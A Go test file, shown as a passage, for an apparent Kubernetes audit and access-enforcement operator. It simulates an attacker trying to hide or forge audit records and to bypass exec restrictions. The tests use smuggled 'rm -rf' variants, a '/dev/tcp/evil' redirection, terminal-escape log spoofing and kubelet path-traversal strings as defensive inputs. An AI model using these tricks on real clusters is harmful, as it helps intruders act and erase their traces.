package audit_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	clocktesting "k8s.io/utils/clock/testing"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/admitkit/admitkit/internal/testkit"
	"github.com/admitkit/admitkit/operator/api/v1alpha1"
	"github.com/admitkit/admitkit/operator/audit"
	"github.com/admitkit/admitkit/operator/audit/sink/auditevent"
	"github.com/admitkit/admitkit/testing/controlplane"
)

// siege is a namespace that somebody attacks who has every right on Pods there, and on
// proxies, AuditEvents and their CRD everywhere.
type siege struct {
	*testing.T
	ns   string
	user *controlplane.User
	kept *memory
}

// attempt is what somebody tries. It returns what went through, "" if nothing did.
type attempt func(s siege) (through string)

// attackers are the rights of the group attackers, which are those of alice and more.
const attackers = `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: attacker}
rules:
- apiGroups: [""]
  resources: [pods/status, pods/binding, pods/resize, pods/eviction, pods/ephemeralcontainers]
  verbs: ["*"]
- {apiGroups: [""], resources: [pods/proxy, services/proxy, nodes/proxy], verbs: ["*"]}
- {apiGroups: [admitkit.dev], resources: ["*"], verbs: ["*"]}
- {apiGroups: [apiextensions.k8s.io], resources: ["*"], verbs: ["*"]}
- {apiGroups: ["", events.k8s.io], resources: [events], verbs: ["*"]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: attackers}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: attacker}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: attackers}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: attackers-are-developers}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: developer}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: attackers}]
`

// send sends a request as the attacker. NS in the path is the namespace.
func (s siege) send(method, path, contentType, body string, headers ...string) testkit.Answer {
	s.Helper()
	return testkit.Send(s, s.user, method, strings.ReplaceAll(path, "NS", s.ns), contentType, body, headers...)
}

// held wants a refusal that says all of the parts; what else there is went through.
func (s siege) held(a testkit.Answer, parts ...string) (through string) {
	s.Helper()
	return a.Held(s, parts...)
}

// exec asks for a session in a Pod, without an upgrade: admission comes first.
func (s siege) exec(pod string, query url.Values) testkit.Answer {
	s.Helper()
	return s.send("POST", "/api/v1/namespaces/NS/pods/"+pod+"/exec?"+query.Encode(), testkit.AsJSON, "")
}

func (s siege) command(words ...string) testkit.Answer {
	s.Helper()
	return s.exec("shop", url.Values{"command": words, "stdout": {"true"}, "container": {"web"}})
}

// record returns the last of n records of the attacker, when they are there.
func (s siege) record(n int) *v1alpha1.AuditRecord {
	s.Helper()
	var records []*v1alpha1.AuditRecord
	if err := testkit.Poll(s.Context(), time.Minute, "the act is on record", func(context.Context) error {
		if records = s.kept.of(s.user.Name); len(records) < n {
			return fmt.Errorf("%d records of %d acts", len(records), n)
		}
		return nil
	}); err != nil {
		return nil
	}
	return records[len(records)-1]
}

// says says what a record of the attacker's only act lacks.
func (s siege) says(want ...string) (through string) {
	s.Helper()
	r := s.record(1)
	if r == nil {
		return "there is no record"
	}
	text := fmt.Sprintf("%q %q %+v", r.Command, r.Path, r.Containers)
	for _, part := range want {
		if !strings.Contains(text, part) && !strings.Contains(r.Container, part) {
			return fmt.Sprintf("the record lacks %q: %.400s", part, text)
		}
	}
	return ""
}

// events are the attacker's AuditEvents.
func (s siege) events() []v1alpha1.AuditEvent {
	s.Helper()
	var list v1alpha1.AuditEventList
	if err := admin.List(s.Context(), &list, client.MatchingLabels{auditevent.LabelUser: auditevent.LabelValue(s.user.Name)}); err != nil {
		s.Log(err) // an attempt on the CRD may be why
	}
	return list.Items
}

// event returns the attacker's first AuditEvent, which an exec causes.
func (s siege) event() *v1alpha1.AuditEvent {
	s.Helper()
	s.command("true")
	var found *v1alpha1.AuditEvent
	testkit.Eventually(s.T, "there is an AuditEvent", func(context.Context) bool {
		if events := s.events(); len(events) > 0 {
			found = &events[0]
		}
		return found != nil
	})
	return found
}

// hidesNothing asks for a command and wants its words in the record.
func hidesNothing(words []string, want ...string) attempt {
	return func(s siege) string {
		s.command(words...)
		return s.says(want...)
	}
}

const bigPod = `{"apiVersion":"v1","kind":"Pod","metadata":{"name":%q},"spec":{"schedulerName":"nobody","containers":[{"name":"a","image":"a"}],"volumes":[%s{"name":"last","hostPath":{"path":"/"}}]}}`

// attemptsOnRecords want to leave no record, or one that hides what was done. All sinks
// are Open, so the failure policy is Ignore: what admission does not see passes.
var attemptsOnRecords = map[string]attempt{
	"an exec of nothing": func(s siege) string {
		s.exec("shop", url.Values{"stdout": {"true"}})
		return s.says()
	},
	"an exec of a thousand words": func(s siege) string {
		words := make([]string, 1000)
		for i := range words {
			words[i] = fmt.Sprint("word-", i)
		}
		s.command(words...)
		return s.says(words...)
	},
	"an exec of thousands of words that are not printed, and one": func(s siege) string {
		// The API server reads at most 10,000 parameters.
		s.send("POST", "/api/v1/namespaces/NS/pods/shop/exec?"+strings.Repeat("command=%01%01%01%01%01%01%01%01&", 9000)+"command=evil", testkit.AsJSON, "")
		if through := s.says("evil"); through != "" {
			return through
		}
		if r := s.record(1); r.CommandSHA256 == "" || r.CommandBytes != 81_005 {
			return fmt.Sprintf("%d bytes, %q", r.CommandBytes, r.CommandSHA256)
		}
		return ""
	},
	"an exec of more words than the API server reads": func(s siege) string {
		a := s.send("POST", "/api/v1/namespaces/NS/pods/shop/exec?"+strings.Repeat("command=x&", 20_000)+"command=evil", testkit.AsJSON, "")
		if r := s.record(1); r == nil || len(r.Command) == 0 && a.Code == http.StatusSwitchingProtocols {
			return fmt.Sprintf("%s: %+v", a, r)
		}
		return ""
	},
	"an exec whose words erase themselves from a terminal": hidesNothing([]string{"evil\x1b[2K\r\b\b\b\b", "\x00", "good\n2026-01-01 INFO nothing", "\u202elive"}, `evil\x1b[2K\r\b\b\b\b`, `\x00`, `\u202elive`),
	"an exec whose words are not UTF-8": func(s siege) string {
		s.send("POST", "/api/v1/namespaces/NS/pods/shop/exec?command=evil%ff%fe&command=%c0%af", testkit.AsJSON, "")
		return s.says("evil")
	},
	"an exec in a container whose name tells a story": func(s siege) string {
		story := "web: [\"true\"] (tty false, stdin false)\nbob: exec in container web"
		s.exec("shop", url.Values{"command": {"evil"}, "container": {story}})
		return s.says("evil", story)
	},
	"an exec in a Pod that does not exist": func(s siege) string {
		s.exec("no-such-pod", url.Values{"command": {"evil"}})
		return s.says("evil")
	},
	"a command behind the name of a secret":            hidesNothing([]string{"sh", "-c", "eval $1", "--token", "rm${IFS}-rf${IFS}/data"}, "rm${IFS}-rf"),
	"a command in braces behind the name of a secret":  hidesNothing([]string{"bash", "-c", "eval $1", "--token", "{rm,-rf,/data}"}, "{rm,-rf,/data}"),
	"a redirection behind the name of a secret":        hidesNothing([]string{"sh", "-c", "token=x>/data/database"}, "/data/database"),
	"a redirection that reads, behind the name of one": hidesNothing([]string{"sh", "-c", "token=</dev/tcp/evil/80"}, "/dev/tcp"),
	"a command behind a secret and an ampersand":       hidesNothing([]string{"sh", "-c", "token=x&evil", "x"}, "evil"),
	"a command behind a secret and a pipe":             hidesNothing([]string{"sh", "-c", "token=x|evil"}, "evil"),
	"a command behind a secret on another line":        hidesNothing([]string{"sh", "-c", "token=x\nevil"}, "evil"),
	"a command in what a variable of bash expands to":  hidesNothing([]string{"bash", "-c", `token="${x:-$[$(evil)]}"`}, "evil"),
	"a command behind a variable's prompt":             hidesNothing([]string{"bash", "-c", "eval $1", "--password", "evil${x@P}"}, "evil"),
	"a command behind the password of an address":      hidesNothing([]string{"sh", "-c", "eval $(echo http://a:rm${IFS}evil@b)"}, "evil"),
	"a command behind a bearer":                        hidesNothing([]string{"sh", "-c", "bearer evil"}, "sh"),
	"a path behind the name of a secret": func(s siege) string {
		s.send("DELETE", "/api/v1/namespaces/NS/pods/http:shop:1/proxy/token=x/..%2fadmin/database", testkit.AsJSON, "")
		return s.says("admin/database")
	},
	"a proxy by each method": func(s siege) string {
		for i, method := range []string{"GET", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS"} {
			s.send(method, "/api/v1/namespaces/NS/pods/http:shop:1/proxy/evil", testkit.AsJSON, "")
			if r := s.record(i + 1); r == nil || r.Pod != "shop" || r.Path != "http:evil" && r.Path != "http:/evil" {
				return fmt.Sprintf("%s: %+v", method, r)
			}
		}
		return ""
	},
	"a port-forward by WebSocket": func(s siege) string {
		s.send("GET", "/api/v1/namespaces/NS/pods/shop/portforward?ports=80", testkit.AsJSON, "", "Connection", "Upgrade", "Upgrade", "websocket",
			"Sec-WebSocket-Version", "13", "Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Protocol", "v2.portforward.k8s.io")
		return s.says()
	},
	"an attach to an init container": func(s siege) string {
		pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: s.ns, Name: "init"}, Spec: corev1.PodSpec{
			SchedulerName: "nobody", InitContainers: []corev1.Container{{Name: "first", Image: "example.com/first"}}, Containers: []corev1.Container{{Name: "web", Image: "example.com/web"}},
		}}
		testkit.Create(s.T, admin, pod)
		s.send("POST", "/api/v1/namespaces/NS/pods/init/attach?container=first&stdin=true", testkit.AsJSON, "")
		if r := s.record(1); r == nil || r.Image != "example.com/first" || !r.Stdin {
			return fmt.Sprintf("%+v", r)
		}
		return ""
	},
	"a Pod without a name": func(s siege) string {
		a := s.send("POST", "/api/v1/namespaces/NS/pods", testkit.AsJSON, `{"metadata":{"generateName":"nameless-"},"spec":{"schedulerName":"nobody","containers":[{"name":"a","image":"evil","stdin":true}]}}`)
		var made corev1.Pod
		if err := json.Unmarshal([]byte(a.Body), &made); err != nil || a.Code != http.StatusCreated {
			s.Fatal(a)
		}
		if r := s.record(1); r == nil || r.Pod != made.Name {
			return fmt.Sprintf("%s was made, and the record is %+v", made.Name, r)
		}
		return ""
	},
	"access to the node behind very many volumes": func(s siege) string {
		var volumes strings.Builder
		for i := range testkit.Long(40_000, 4_000) {
			fmt.Fprintf(&volumes, `{"name":"v%d"},`, i)
		}
		defer func() { _ = admin.Delete(s.Context(), plain(s.ns, "volumes")) }() // it costs everybody memory
		a := s.send("POST", "/api/v1/namespaces/NS/pods", testkit.AsJSON, fmt.Sprintf(bigPod, "volumes", volumes.String()))
		s.Logf("%.300s", a)
		if a.Code >= 300 {
			return ""
		}
		return s.says()
	},
	"a new image behind very many containers": func(s siege) string {
		var containers strings.Builder
		n := testkit.Long(9000, 900)
		for i := range n {
			fmt.Fprintf(&containers, `{"name":"c%d","image":"a"},`, i)
		}
		body := `{"metadata":{"name":"containers"},"spec":{"schedulerName":"nobody","containers":[` + containers.String() + `{"name":"last","image":"a"}]}}`
		if a := s.send("POST", "/api/v1/namespaces/NS/pods", testkit.AsJSON, body); a.Code != http.StatusCreated {
			s.Fatal(a)
		}
		defer func() { _ = admin.Delete(s.Context(), plain(s.ns, "containers")) }()
		before := len(s.kept.of(s.user.Name))
		a := s.send("PATCH", "/api/v1/namespaces/NS/pods/containers", testkit.AsPatch, fmt.Sprintf(`[{"op":"replace","path":"/spec/containers/%d/image","value":"evil"}]`, n))
		if a.Code >= 300 {
			s.Logf("%.300s", a)
			return ""
		}
		if r := s.record(before + 1); r == nil || r.Image != "evil" {
			return fmt.Sprintf("the image is new, and the record is %+v", r)
		}
		return ""
	},
	"a new image that is applied": func(s siege) string {
		testkit.Create(s.T, admin, plain(s.ns, "image"))
		for i, patch := range []struct{ contentType, body string }{
			{testkit.AsApply, `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"image"},"spec":{"containers":[{"name":"web","image":"evil0"}]}}`},
			{testkit.AsDetails, `{"spec":{"containers":[{"name":"web","image":"evil1"}]}}`},
			{testkit.AsPatch, `[{"op":"replace","path":"/spec/containers/0/image","value":"evil2"}]`},
		} {
			query := ""
			if patch.contentType == testkit.AsApply {
				query = "?fieldManager=eve&force=true"
			}
			if a := s.send("PATCH", "/api/v1/namespaces/NS/pods/image"+query, patch.contentType, patch.body); a.Code != http.StatusOK {
				s.Fatal(a)
			}
			if r := s.record(i + 1); r == nil || r.Image != fmt.Sprint("evil", i) {
				return fmt.Sprintf("%s: %+v", patch.contentType, r)
			}
		}
		return ""
	},
	"an ephemeral container that is applied": func(s siege) string {
		testkit.Create(s.T, admin, plain(s.ns, "debugged"))
		a := s.send("PATCH", "/api/v1/namespaces/NS/pods/debugged/ephemeralcontainers?fieldManager=eve", testkit.AsApply,
			`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"debugged"},"spec":{"ephemeralContainers":[{"name":"a","image":"evil","command":["evil"]}]}}`)
		if a.Code >= 300 {
			s.Logf("%s", a)
			return ""
		}
		return s.says("evil")
	},
	"a flood, and then two ephemeral containers": func(s siege) string {
		testkit.Create(s.T, admin, plain(s.ns, "flooded"))
		s.flood()
		a := s.send("PATCH", "/api/v1/namespaces/NS/pods/flooded/ephemeralcontainers", testkit.AsDetails,
			`{"spec":{"ephemeralContainers":[{"name":"a","image":"evil-image-a","command":["evil-command-a"]},{"name":"b","image":"evil-image-b","command":["evil-command-b"]}]}}`)
		if a.Code != http.StatusOK {
			s.Fatal(a)
		}
		return s.folded("evil-image-a", "evil-command-a", "evil-image-b", "evil-command-b")
	},
	"a flood, and then a new image": func(s siege) string {
		testkit.Create(s.T, admin, plain(s.ns, "imaged"))
		s.flood()
		if a := s.send("PATCH", "/api/v1/namespaces/NS/pods/imaged", testkit.AsDetails, `{"spec":{"containers":[{"name":"web","image":"evil-image"}]}}`); a.Code != http.StatusOK {
			s.Fatal(a)
		}
		return s.folded("evil-image")
	},
	"a flood, and then a Pod that is a way in": func(s siege) string {
		s.flood()
		body := `{"metadata":{"name":"wayin"},"spec":{"schedulerName":"nobody","containers":[{"name":"a","image":"evil-image","command":["evil-command"],"stdin":true}]}}`
		if a := s.send("POST", "/api/v1/namespaces/NS/pods", testkit.AsJSON, body); a.Code != http.StatusCreated {
			s.Fatal(a)
		}
		return s.folded("evil-image", "evil-command")
	},
	"a flood, and then the proxy of a Service and of a node": func(s siege) string {
		s.flood()
		s.send("GET", "/api/v1/namespaces/NS/services/evil-service:80/proxy/path", testkit.AsJSON, "")
		return s.folded("evil-service")
	},
	"a flood, and then one command": func(s siege) string {
		s.flood()
		s.command("evil-command", "word")
		return s.folded("evil-command")
	},
	"a user whose name is like the label of another": func(s siege) string {
		other, err := cluster.AddUser("ordinary@example.com", "attackers")
		if err != nil {
			s.Fatal(err)
		}
		if auditevent.LabelValue(other.Name) == auditevent.LabelValue("ordinary@example_com") {
			return auditevent.LabelValue(other.Name)
		}
		s.user = other
		s.command("evil")
		return s.says("evil")
	},
	"a user whose name is two lines": func(s siege) string {
		user, err := cluster.AddUser("eve\nroot\x1b[2K", "attackers")
		if err != nil {
			s.Fatal(err)
		}
		s.user = user
		s.command("evil")
		if through := s.says("evil"); through != "" {
			return through
		}
		testkit.Eventually(s.T, "it is an AuditEvent", func(context.Context) bool { return len(s.events()) == 1 })
		return ""
	},
	"many groups": func(s siege) string {
		groups := []string{"attackers"}
		for i := range 2000 {
			groups = append(groups, fmt.Sprint("group-", i))
		}
		user, err := cluster.AddUser("grouped", groups...)
		if err != nil {
			s.Fatal(err)
		}
		s.user = user
		s.command("evil")
		return s.says("evil")
	},
	"the Event of the session, deleted": func(s siege) string {
		s.command("evil")
		s.send("DELETE", "/apis/events.k8s.io/v1/namespaces/NS/events", testkit.AsJSON, "")
		testkit.Eventually(s.T, "it is an AuditEvent", func(context.Context) bool { return len(s.events()) == 1 })
		return s.says("evil")
	},
	"the Pod of the session, deleted": func(s siege) string {
		pod := plain(s.ns, "deleted")
		testkit.Create(s.T, admin, pod)
		s.exec("deleted", url.Values{"command": {"evil"}})
		if err := admin.Delete(s.Context(), pod); err != nil {
			s.Fatal(err)
		}
		if r := s.record(1); r == nil || r.PodUID != pod.UID {
			return fmt.Sprintf("%+v", r)
		}
		return ""
	},
	"an AuditEvent that is changed by applying": func(s siege) string {
		event := s.event()
		path := "/apis/admitkit.dev/v1alpha1/auditevents/" + event.Name
		changed := `{"apiVersion":"admitkit.dev/v1alpha1","kind":"AuditEvent","metadata":{"name":"` + event.Name + `","labels":{"admitkit.dev/user":"bob"}}}`
		if through := s.held(s.send("PATCH", path+"?fieldManager=eve&force=true", testkit.AsApply, changed), "cannot be changed"); through != "" {
			return through
		}
		counted := `{"apiVersion":"admitkit.dev/v1alpha1","kind":"AuditEvent","metadata":{"name":"` + event.Name + `"},"status":{"count":9}}`
		if through := s.held(s.send("PATCH", path+"/status?fieldManager=eve&force=true", testkit.AsApply, counted), "only admitkit counts"); through != "" {
			return through
		}
		event.Spec.Command = []string{"good"}
		event.ManagedFields = nil
		text, _ := json.Marshal(event)
		return s.held(s.send("PUT", path, testkit.AsJSON, string(text)))
	},
	"an AuditEvent that is deleted in some other way": func(s siege) string {
		event := s.event()
		path := "/apis/admitkit.dev/v1alpha1/auditevents"
		for _, what := range []struct{ path, body string }{
			{path + "/" + event.Name, `{"propagationPolicy":"Orphan","gracePeriodSeconds":0}`},
			{path + "/" + event.Name, `{"preconditions":{"uid":"` + string(event.UID) + `"}}`},
			{path + "/" + event.Name + "?propagationPolicy=Foreground", ""},
			{path + "?fieldSelector=metadata.name%3D" + event.Name, ""},
			{path + "?labelSelector=admitkit.dev%2Fuser%3D" + s.user.Name, `{"orphanDependents":true}`},
		} {
			if through := s.held(s.send("DELETE", what.path, testkit.AsJSON, what.body), "is kept until"); through != "" {
				return through
			}
		}
		return ""
	},
	"an AuditEvent of another time": func(s siege) string {
		for i, at := range []time.Time{time.Now().Add(-time.Hour), time.Now().Add(time.Hour), {}, time.Now().AddDate(200, 0, 0)} {
			forged := &v1alpha1.AuditEvent{TypeMeta: metav1.TypeMeta{APIVersion: "admitkit.dev/v1alpha1", Kind: "AuditEvent"}, ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprint("forged-", i)}}
			forged.Spec.ID, forged.Spec.Way, forged.Spec.Verb, forged.Spec.Decision, forged.Spec.Time = forged.Name, v1alpha1.WayExec, "connect", v1alpha1.AuditAllowed, metav1.NewMicroTime(at)
			text, _ := json.Marshal(forged)
			if through := s.held(s.send("POST", "/apis/admitkit.dev/v1alpha1/auditevents", testkit.AsJSON, string(text)), "spec.time"); through != "" {
				return through
			}
		}
		return ""
	},
	"an AuditEvent by who has no right to make one": func(s siege) string {
		s.user = alice
		return s.held(s.send("POST", "/apis/admitkit.dev/v1alpha1/auditevents", testkit.AsJSON, `{"metadata":{"name":"forged"},"spec":{}}`), "forbidden")
	},
	"a mark of a touched Pod that goes": func(s siege) string {
		testkit.Create(s.T, admin, plain(s.ns, "touched"))
		s.exec("touched", url.Values{"command": {"sh"}, "stdin": {"true"}, "tty": {"true"}})
		pod := plain(s.ns, "touched")
		testkit.Eventually(s.T, "it is marked", func(ctx context.Context) bool {
			return admin.Get(ctx, client.ObjectKeyFromObject(pod), pod) == nil && pod.Labels[audit.LabelTouchedBy] != ""
		})
		at := pod.Annotations[audit.AnnotationTouchedAt]
		path := "/api/v1/namespaces/NS/pods/touched"
		for _, try := range []struct{ method, path, contentType, body string }{
			{"PATCH", path, testkit.AsMerge, `{"metadata":{"labels":{"admitkit.dev/touched-by":null}}}`},
			{"PATCH", path + "/status", testkit.AsMerge, `{"metadata":{"labels":null,"annotations":null}}`},
			{"PATCH", path + "/status", testkit.AsPatch, `[{"op":"replace","path":"/metadata/annotations","value":{"admitkit.dev/touched-at":"2001-01-01T00:00:00Z"}}]`},
			{"PATCH", path + "?fieldManager=eve&force=true", testkit.AsApply, `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"touched","labels":{"admitkit.dev/touched-by":"bob"}}}`},
			{"PATCH", path + "/ephemeralcontainers", testkit.AsDetails, `{"metadata":{"labels":{"admitkit.dev/touched-by":null}},"spec":{"ephemeralContainers":[{"name":"a","image":"a"}]}}`},
		} {
			a := s.send(try.method, try.path, try.contentType, try.body)
			if err := admin.Get(s.Context(), client.ObjectKeyFromObject(pod), pod); err != nil {
				s.Fatal(err)
			}
			if pod.Labels[audit.LabelTouchedBy] == "" || pod.Labels[audit.LabelTouchedBy] == "bob" || pod.Annotations[audit.AnnotationTouchedAt] != at {
				return fmt.Sprintf("%s %s: %s", try.method, try.path, a)
			}
		}
		return ""
	},
}

// attemptsOnTheCRD are made one after the other, since all others depend on it.
var attemptsOnTheCRD = map[string]attempt{
	"its status, which says that it is going":         crdStatus(`{"op":"add","path":"/status/conditions/-","value":{"type":"Terminating","status":"True","lastTransitionTime":"2026-01-01T00:00:00Z","reason":"No","message":""}}`),
	"its status, which says that it is not there yet": crdStatus(`{"op":"replace","path":"/status/conditions","value":[]}`),
	"its status, which names another kind":            crdStatus(`{"op":"replace","path":"/status/acceptedNames/kind","value":"Other"}`),
	"its status, which forgets what is stored":        crdStatus(`{"op":"replace","path":"/status/storedVersions","value":["v2"]}`),
	"an owner that does not exist": func(s siege) string {
		a := s.send("PATCH", crdPath, testkit.AsMerge, `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"Namespace","name":"gone","uid":"b6e1d1c2-3a0c-4b5e-9d5e-0c6f6a1c0001"}]}}`)
		if a.Code < 300 {
			defer s.send("PATCH", crdPath, testkit.AsMerge, `{"metadata":{"ownerReferences":null}}`)
			// What the garbage collector does then.
			return s.held(s.send("DELETE", crdPath, testkit.AsJSON, ""), "would delete every audit record")
		}
		return ""
	},
}

const crdPath = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/auditevents.admitkit.dev"

// crdStatus writes the status of the CRD of AuditEvents, and asks for an exec then.
func crdStatus(operation string) attempt {
	return func(s siege) string {
		before := s.send("GET", crdPath, testkit.AsJSON, "")
		a := s.send("PATCH", crdPath+"/status", testkit.AsPatch, "["+operation+"]")
		if a.Code >= 300 {
			return s.held(a)
		}
		defer func() {
			var crd struct{ Status json.RawMessage }
			if err := json.Unmarshal([]byte(before.Body), &crd); err != nil {
				s.Fatal(err)
			}
			s.send("PATCH", crdPath+"/status", testkit.AsMerge, `{"status":`+string(crd.Status)+`}`)
			n := len(s.events())
			testkit.Eventually(s.T, "AuditEvents can be written again", func(context.Context) bool {
				s.command("true")
				return len(s.events()) > n
			})
		}()
		for range 5 {
			n := len(s.events())
			s.command("evil")
			if err := testkit.Poll(s.Context(), 10*time.Second, "it is an AuditEvent", func(context.Context) error {
				if len(s.events()) <= n {
					return fmt.Errorf("there are still %d", n)
				}
				return nil
			}); err != nil {
				return fmt.Sprintf("the status is %.100s; %v", a.Body, err)
			}
		}
		return ""
	}
}

// foldAfter is small, so that little makes a flood.
const foldAfter = 5

// flood makes what comes next a part of a flood.
func (s siege) flood() {
	s.Helper()
	for i := range foldAfter + 2 {
		s.command("flood", fmt.Sprint(i))
	}
	testkit.Eventually(s.T, "there is a fold", func(context.Context) bool {
		return slices.ContainsFunc(s.events(), func(e v1alpha1.AuditEvent) bool { return e.Spec.Folded && e.Status.Count > 0 })
	})
}

// folded wants what was done in the fold, or its sum.
func (s siege) folded(want ...string) (through string) {
	s.Helper()
	var text string
	if err := testkit.Poll(s.Context(), time.Minute, "the act is folded", func(context.Context) error {
		text = ""
		for _, e := range s.events() {
			all, _ := json.Marshal(e.Status)
			text += string(all)
		}
		if !strings.Contains(text, `"count":3`) {
			return fmt.Errorf("the status is %s", text)
		}
		return nil
	}); err != nil {
		return err.Error()
	}
	for _, part := range want {
		if !strings.Contains(text, part) {
			return fmt.Sprintf("no AuditEvent has %q: %s", part, text)
		}
	}
	return ""
}

func plain(ns, name string) *corev1.Pod {
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
		Spec:       corev1.PodSpec{SchedulerName: "nobody", Containers: []corev1.Container{{Name: "web", Image: "example.com/web"}}},
	}
}

// attemptsOnEnforcement want a session without a live access request. The attacker has
// one request, for exec, attach and portforward in the Pod shop, and terminals are
// forbidden.
var attemptsOnEnforcement = map[string]attempt{
	"a session in another Pod": func(s siege) string {
		return s.denied(s.exec("other", url.Values{"command": {"true"}}), "access-request")
	},
	"a session of another verb": func(s siege) string {
		testkit.Create(s.T, admin, plain(s.ns, "verbs"))
		s.grant("verbs", "verbs", nil)
		for path, contentType := range map[string]string{"/ephemeralcontainers": testkit.AsDetails, "": testkit.AsDetails} {
			body := map[string]string{"/ephemeralcontainers": `{"spec":{"ephemeralContainers":[{"name":"a","image":"a"}]}}`, "": `{"spec":{"containers":[{"name":"web","image":"evil"}]}}`}[path]
			if through := s.denied(s.send("PATCH", "/api/v1/namespaces/NS/pods/verbs"+path, contentType, body), "access-request"); through != "" {
				return through
			}
		}
		return ""
	},
	"a terminal of a container that has one, by an attach that asks for none": func(s siege) string {
		return s.denied(s.send("POST", "/api/v1/namespaces/NS/pods/terminal/attach?container=web&stdin=true&stdout=true", testkit.AsJSON, ""), "tty")
	},
	"a terminal in an ephemeral container": func(s siege) string {
		return s.denied(s.send("PATCH", "/api/v1/namespaces/NS/pods/terminal/ephemeralcontainers", testkit.AsDetails, `{"spec":{"ephemeralContainers":[{"name":"a","image":"a","tty":true,"stdin":true}]}}`), "tty")
	},
	"a terminal, however that is written": func(s siege) string {
		for _, tty := range []string{"true", "1", "t", "", "TRUE", "yes"} {
			if through := s.denied(s.exec("shop", url.Values{"command": {"sh"}, "tty": {tty}}), "tty"); through != "" {
				return tty + ": " + through
			}
		}
		return ""
	},
	"the paths of the kubelet": func(s siege) string {
		for _, path := range []string{
			"checkpoint/NS/shop/web", "debug/pprof/", "exec/NS/shop/web", "run/NS/shop/web", "attach/NS/shop/web", "portForward/NS/shop", "cri/exec/x", "containerLogs/../exec/NS/shop/web",
			"logs/%2e%2e/run/NS/shop/web", "pods;/../run/NS/shop/web", "metrics%2f..%2frun/NS/shop/web", "RUN/NS/shop/web", "./run/NS/shop/web", "%72un/NS/shop/web", "run%2fNS%2fshop%2fweb", "debug/flags/v",
		} {
			if through := s.denied(s.send("POST", "/api/v1/nodes/node-0/proxy/"+path, testkit.AsJSON, ""), "kubelet"); through != "" {
				return path + ": " + through
			}
		}
		return ""
	},
	"the proxy of a Service": func(s siege) string {
		for _, name := range []string{"any", "http:any:80", "https:any:", "any:name"} {
			if through := s.denied(s.send("GET", "/api/v1/namespaces/NS/services/"+name+"/proxy/", testkit.AsJSON, ""), "service-proxy"); through != "" {
				return name + ": " + through
			}
		}
		return ""
	},
	"the request of another user": func(s siege) string {
		s.user = alice
		return s.denied(s.command("true"), "access-request")
	},
	"a name like that of the requester": func(s siege) string {
		for _, name := range []string{s.user.Name + " ", strings.ToUpper(s.user.Name), s.user.Name + "\u200b", s.user.Name + "\n"} {
			user, err := cluster.AddUser(name, "attackers")
			if err != nil {
				s.Fatal(err)
			}
			other := s
			other.user = user
			if through := other.denied(other.command("true"), "access-request"); through != "" {
				return fmt.Sprintf("%q: %s", name, through)
			}
		}
		return ""
	},
	"a group like that which is exempt": func(s siege) string {
		user, err := cluster.AddUser("gregor", "attackers", "oncall ", "Oncall", "on-call", "system:oncall", "oncall\n")
		if err != nil {
			s.Fatal(err)
		}
		s.user = user
		return s.denied(s.command("true"), "access-request")
	},
	"a request that has ended": func(s siege) string {
		for name, change := range map[string]func(*v1alpha1.ExecAccessRequest){
			"ended":   func(r *v1alpha1.ExecAccessRequest) { r.Spec.Duration = "1ns" },
			"invalid": func(r *v1alpha1.ExecAccessRequest) { r.Spec.Duration = "" },
			"revoked": func(r *v1alpha1.ExecAccessRequest) {
				r.Spec.Revoked = &v1alpha1.Revocation{At: &metav1.Time{Time: time.Now().AddDate(1, 0, 0)}}
			},
			"nobodys": func(r *v1alpha1.ExecAccessRequest) { r.Spec.Requester = nil },
		} {
			testkit.Create(s.T, admin, plain(s.ns, name))
			s.grant(name, name, change)
			if through := s.denied(s.exec(name, url.Values{"command": {"true"}}), "access-request"); through != "" {
				return name + ": " + through
			}
		}
		return ""
	},
	"the next Pod of the name": func(s siege) string {
		pod := plain(s.ns, "again")
		testkit.Create(s.T, admin, pod)
		s.grant("again", "again", nil)
		if err := admin.Delete(s.Context(), pod); err != nil {
			s.Fatal(err)
		}
		testkit.Create(s.T, admin, plain(s.ns, "again"))
		return s.denied(s.exec("again", url.Values{"command": {"true"}}), "access-request")
	},
	"the next request of the name": func(s siege) string {
		testkit.Create(s.T, admin, plain(s.ns, "recreated"))
		req := s.grant("recreated", "recreated", nil)
		if err := admin.Delete(s.Context(), req.DeepCopy()); err != nil {
			s.Fatal(err)
		}
		req.ResourceVersion, req.UID = "", ""
		testkit.Create(s.T, admin, req)
		return s.denied(s.exec("recreated", url.Values{"command": {"true"}}), "access-request")
	},
	"a record of a grant by another name, or for two Pods": func(s siege) string {
		testkit.Create(s.T, admin, plain(s.ns, "forged"), plain(s.ns, "second"))
		req := s.grant("forged-request", "second", nil)
		var forged corev1.Pod
		if err := admin.Get(s.Context(), client.ObjectKey{Namespace: s.ns, Name: "forged"}, &forged); err != nil {
			s.Fatal(err)
		}
		for _, name := range []string{"mine", "execaccess-", "podaccess-forged-request", "Execaccess-forged-request"} {
			role := s.grantRole(req, &forged)
			role.Name = strings.ToLower(name)
			if name == "Execaccess-forged-request" {
				role.Name = "execaccess-two"
				role.Rules = append(role.Rules, rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"pods/exec"}, ResourceNames: []string{"shop"}, Verbs: []string{"create"}})
			}
